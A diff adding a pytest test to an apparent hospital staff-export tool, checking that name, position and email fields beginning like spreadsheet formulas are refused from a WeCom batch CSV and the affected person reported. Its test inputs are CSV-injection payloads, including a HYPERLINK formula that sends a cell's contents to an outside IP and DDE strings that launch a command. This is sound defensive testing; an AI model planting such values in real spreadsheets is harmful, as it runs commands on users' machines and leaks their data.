@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+from dataclasses import replace
 from typing import Any
 
 import pytest
@@ -37,6 +38,31 @@ def test_batch_leaves_out_who_cannot_be_created(site: CliContext) -> None:
     head, row = planned.csv.decode().splitlines()
     assert head.startswith("姓名,帐号,手机号,邮箱,所在部门,职位,性别,是否部门内领导,排序,别名,地址,座机,禁用")
     assert row == "新人,77001,19900077001,,62,护士,,,,,,,0"
+
+
+@pytest.mark.parametrize(
+    "fields",
+    [
+        {"name": '=HYPERLINK("http://203.0.113.9/"&A1,"张三")'},
+        {"name": "@SUM(1+1)*cmd|' /C calc'!A0"},
+        {"name": "＋1+1"},
+        {"position": "-2+3+cmd|' /C calc'!A0"},
+        {"email": "+1@hospital.example"},
+    ],
+)
+def test_a_formula_is_not_exported_and_its_owner_is_named(site: CliContext, fields: dict[str, str]) -> None:
+    hire(
+        site,
+        replace(NEWCOMERS[0], **fields),
+        PersonRecord("77010", "好人", None, "+8619900077010", department="L"),
+    )
+    shown = run_command(site, "create-in-wecom", answer="n\n").output
+    assert "77001" in shown
+    assert "公式" in shown
+    with site.database.read_session() as session:
+        planned = batch.plan_batch(session)
+    assert list(planned.userids) == ["77010"]
+    assert "+8619900077010" in planned.csv.decode()
 
 
 def test_people_are_created_in_wecom_and_linked(
